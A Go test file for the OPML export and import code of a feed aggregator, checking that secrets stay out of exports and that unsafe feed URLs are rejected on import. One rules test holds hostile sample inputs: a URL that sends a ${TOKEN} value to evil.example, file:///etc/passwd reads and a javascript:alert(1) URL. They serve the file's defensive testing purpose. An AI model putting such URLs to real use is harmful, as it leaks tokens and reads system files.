package pipeline

import (
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/netdigest/netdigest/config"
	"github.com/netdigest/netdigest/opml"
)

const opmlTop = "title: R&D <news>\nid: tag:example.org,2026:t\nlink: https://example.org/\n"

// opmlConfig has every case an export meets: secrets in a URL, a snapshot
// with and without base, pages, two conferences, tags.
const opmlConfig = opmlTop + `sources:
  - name: lwn
    url: https://lwn.net/headlines/rss
    tags: [kernel, news]
  - name: private
    url: https://${USER}:${TOKEN}@feeds.example.org/netdev.atom?key=${KEY}
  - name: netdevconf
    url: https://netdevconf.info/feed.xml
    conference: Netdev 0x19
  - name: snapshot
    url: snapshots/lwn.xml
  - name: lpc-blog
    url: https://lpc.events/blog/current/index.php/feed/
    conference: LPC 2026
  - name: netdev-day1
    kind: article
    url: snapshots/day1.html
    base: https://netdevconf.info/0x19/day1.html
    conference: Netdev 0x19
    tags: [talk-report]
  - name: lpc-schedule
    kind: indico
    url: https://lpc.events/export/event/19.json?ak=${KEY}
    conference: LPC 2026
`

var opmlEnv = config.Env(func(name string) (string, bool) {
	return map[string]string{"USER": "me", "TOKEN": "s3cr3t-token", "KEY": "s3cr3t-key"}[name], true
})

const wantOPML = `<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0" xmlns:netdigest="https://github.com/netdigest/netdigest/opml">
  <head>
    <title>R&amp;D &lt;news&gt;</title>
    <docs>http://opml.org/spec2.opml</docs>
  </head>
  <body>
    <outline text="lwn" title="lwn" type="rss" xmlUrl="https://lwn.net/headlines/rss" category="/kernel,/news"></outline>
    <outline text="private" title="private" type="rss" xmlUrl="https://feeds.example.org/netdev.atom"></outline>
    <outline text="Netdev 0x19" title="Netdev 0x19" netdigest:conference="Netdev 0x19">
      <outline text="netdevconf" title="netdevconf" type="rss" xmlUrl="https://netdevconf.info/feed.xml"></outline>
      <outline text="netdev-day1" title="netdev-day1" htmlUrl="https://netdevconf.info/0x19/day1.html" category="/talk-report"></outline>
    </outline>
    <outline text="snapshot" title="snapshot"></outline>
    <outline text="LPC 2026" title="LPC 2026" netdigest:conference="LPC 2026">
      <outline text="lpc-blog" title="lpc-blog" type="rss" xmlUrl="https://lpc.events/blog/current/index.php/feed/"></outline>
      <outline text="lpc-schedule" title="lpc-schedule" htmlUrl="https://lpc.events/export/event/19.json"></outline>
    </outline>
  </body>
</opml>
`

func parseOPMLConfig(t *testing.T, text string) *config.Config {
	t.Helper()
	cfg, err := config.ParseEnv(filepath.Join(t.TempDir(), "feeds.yaml"), []byte(text), opmlEnv)
	if err != nil {
		t.Fatal(err)
	}
	return cfg
}

func TestOPMLExport(t *testing.T) {
	data, err := opml.Marshal(OPML(parseOPMLConfig(t, opmlConfig)))
	if err != nil {
		t.Fatal(err)
	}
	if string(data) != wantOPML {
		t.Errorf("export:\n%s\nwant:\n%s", data, wantOPML)
	}
	for _, secret := range []string{"s3cr3t", "me:", "snapshots/", "file:"} {
		if strings.Contains(string(data), secret) {
			t.Errorf("export shows %q", secret)
		}
	}
}

// Round trip: what netdigest exports imports back into an empty config as
// the same feed sources (names, URLs as published, conferences, tags).
// Pages are listed for people but are not feeds: they are not imported.
func TestOPMLRoundTrip(t *testing.T) {
	cfg := parseOPMLConfig(t, opmlConfig)
	data, err := opml.Marshal(OPML(cfg))
	if err != nil {
		t.Fatal(err)
	}
	doc, err := opml.Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	plan := PlanImport(nil, doc)
	out, err := config.AppendSources([]byte(opmlTop+"sources: []\n"), plan.Add)
	if err != nil {
		t.Fatal(err)
	}
	back := parseOPMLConfig(t, string(out))
	type view struct {
		Name, Kind, URL, Conference string
		Tags                        []string
	}
	var got, want []view
	for _, s := range back.Sources {
		got = append(got, view{s.Name, s.Kind, s.URL, s.Conference, s.Tags})
	}
	for _, s := range cfg.Sources {
		if s.Kind == config.KindFeed && s.PublicURL != "" {
			want = append(want, view{s.Name, s.Kind, s.PublicURL, s.Conference, s.Tags})
		}
	}
	// The export groups by conference: the file order within the groups.
	order := map[string]int{"lwn": 0, "private": 1, "netdevconf": 2, "lpc-blog": 3}
	slices.SortStableFunc(want, func(a, b view) int { return order[a.Name] - order[b.Name] })
	if !reflect.DeepEqual(got, want) {
		t.Errorf("imported back:\n got %+v\nwant %+v", got, want)
	}
	var reasons []string
	for _, s := range plan.Skipped {
		reasons = append(reasons, s.Label+": "+s.Reason)
	}
	if len(plan.Skipped) != 2 || !strings.Contains(strings.Join(reasons, "\n"), "a page, not a feed") {
		t.Errorf("skipped = %q, want the two pages", reasons)
	}
}

var (
	expectAdd  = regexp.MustCompile(`(?m)^\s*add: (\S+) (\S+)(?: tags=(.*))?$`)
	expectSkip = regexp.MustCompile(`(?m)^\s*skip: (\d+) (.*)$`)
)

// Each fixture's header says what it imports as (one table test runs them
// all, as yarr does with its parser fixtures).
func TestPlanImportFixtures(t *testing.T) {
	files, _ := filepath.Glob("../opml/testdata/*.opml")
	if len(files) < 4 {
		t.Fatalf("fixtures: %v", files)
	}
	for _, file := range files {
		t.Run(filepath.Base(file), func(t *testing.T) {
			data, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			doc, err := opml.Parse(data)
			if err != nil {
				t.Fatal(err)
			}
			plan := PlanImport(nil, doc)
			var got, want []string
			for _, a := range plan.Add {
				got = append(got, strings.TrimSpace(a.Name+" "+a.URL+" "+tagsField(a.Tags)))
			}
			for _, m := range expectAdd.FindAllStringSubmatch(string(data), -1) {
				tags := ""
				if m[3] != "" {
					tags = tagsField(strings.Split(m[3], ","))
				}
				want = append(want, strings.TrimSpace(m[1]+" "+m[2]+" "+tags))
			}
			if !reflect.DeepEqual(got, want) {
				t.Errorf("added:\n got %q\nwant %q", got, want)
			}
			skips := expectSkip.FindAllStringSubmatch(string(data), -1)
			if len(plan.Skipped) != len(skips) {
				t.Fatalf("skipped %+v, want %d", plan.Skipped, len(skips))
			}
			for i, m := range skips {
				line, _ := strconv.Atoi(m[1])
				if s := plan.Skipped[i]; s.Line != line || !strings.Contains(s.Reason, m[2]) {
					t.Errorf("skipped %+v, want line %d: %s", s, line, m[2])
				}
			}
			// What is added is a valid config.
			out, err := config.AppendSources([]byte(opmlTop), plan.Add)
			if err != nil {
				t.Fatal(err)
			}
			parseOPMLConfig(t, string(out))
		})
	}
}

func tagsField(tags []string) string {
	if len(tags) == 0 {
		return ""
	}
	return "tags=" + strings.Join(tags, ",")
}

func TestPlanImportRules(t *testing.T) {
	existing := parseOPMLConfig(t, opmlConfig).Sources
	doc, err := opml.Parse([]byte(`<opml version="2.0"><body>
<outline text="LWN again" xmlUrl="HTTPS://LWN.NET/headlines/rss"/>
<outline text="private, as exported" xmlUrl="https://feeds.example.org/netdev.atom"/>
<outline text="lwn" xmlUrl="https://lwn.net/other.rss"/>
<outline text="Leak" xmlUrl="https://evil.example/?p=${TOKEN}"/>
<outline text="Local" xmlUrl="file:///etc/passwd"/>
<outline text="Local host" xmlUrl="file://localhost/etc/passwd"/>
<outline text="Relative" xmlUrl="/feed.xml"/>
<outline text="Script" type="rss" xmlUrl="javascript:alert(1)"/>
<outline text="Tokened" xmlUrl="https://user:pw@t.example/feed?token=abc"/>
</body></opml>`))
	if err != nil {
		t.Fatal(err)
	}
	plan := PlanImport(existing, doc)
	var reasons []string
	for _, s := range plan.Skipped {
		reasons = append(reasons, s.Label+": "+s.Reason+" "+s.URL)
	}
	want := []string{
		`LWN again: already in the config as source "lwn" https://LWN.NET/headlines/rss`,
		`private, as exported: already in the config as source "private" https://feeds.example.org/netdev.atom`,
		`Leak: the URL holds "${"`,
		`Local: not an absolute http(s) URL`,
		`Local host: not an absolute http(s) URL`,
		`Relative: not an absolute http(s) URL`,
		`Script: not an absolute http(s) URL`,
	}
	if len(reasons) != len(want) {
		t.Fatalf("skipped:\n%s", strings.Join(reasons, "\n"))
	}
	for i := range want {
		if !strings.HasPrefix(reasons[i], want[i]) {
			t.Errorf("skipped %q, want %q…", reasons[i], want[i])
		}
	}
	if strings.Contains(strings.Join(reasons, " "), "p=") {
		t.Errorf("a skipped URL is shown with its query: %q", reasons)
	}
	if len(plan.Add) != 2 || plan.Add[0].Name != "lwn-2" || plan.Add[1].Name != "tokened" ||
		plan.Add[1].URL != "https://user:pw@t.example/feed?token=abc" || plan.Add[0].Comment != "lwn" || plan.Add[1].Comment != "Tokened" {
		t.Errorf("added = %+v", plan.Add)
	}
}
